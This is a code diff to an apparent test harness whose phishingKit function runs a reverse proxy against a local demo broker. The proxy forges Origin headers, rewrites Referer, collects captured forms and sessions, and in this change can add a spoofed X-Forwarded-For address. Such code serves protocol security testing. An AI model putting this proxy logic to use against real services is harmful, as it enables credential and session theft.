@@ -41,8 +41,13 @@ fetch('${brokerOrigin}/anshin/v1/challenge', { method: 'POST', mode: 'no-cors', 
 /**
  * @param brokerOrigin of the broker that is imitated; a demo broker on this machine
  * @param extensionOrigin whose `Origin` the proxy forges where the broker wants the extension's
+ * @param address of the phisher, for a broker that stands behind a reverse proxy
  */
-export async function phishingKit(brokerOrigin: string, extensionOrigin: string): Promise<PhishingKit> {
+export async function phishingKit(
+  brokerOrigin: string,
+  extensionOrigin: string,
+  address?: string,
+): Promise<PhishingKit> {
   const loot = { forms: [], sessions: [], proofs: [], words: [] } as {
     -readonly [Kind in keyof Loot]: Loot[Kind][number][];
   };
@@ -75,7 +80,8 @@ export async function phishingKit(brokerOrigin: string, extensionOrigin: string)
   ): Promise<void> => {
     const { port, host } = new URL(brokerOrigin);
     const { promise, resolve, reject } = Promise.withResolvers<IncomingMessage>();
-    const headers = { ...incoming.headers, host, 'accept-encoding': 'identity' };
+    const from = address === undefined ? {} : { 'x-forwarded-for': address };
+    const headers = { ...incoming.headers, ...from, host, 'accept-encoding': 'identity' };
     if (incoming.headers.origin) headers.origin = path.startsWith('/anshin/') ? extensionOrigin : brokerOrigin;
     if (incoming.headers.referer) headers.referer = incoming.headers.referer.replace(origin(), brokerOrigin);
     request({ host: '127.0.0.1', port, method: incoming.method, path, headers }, resolve)
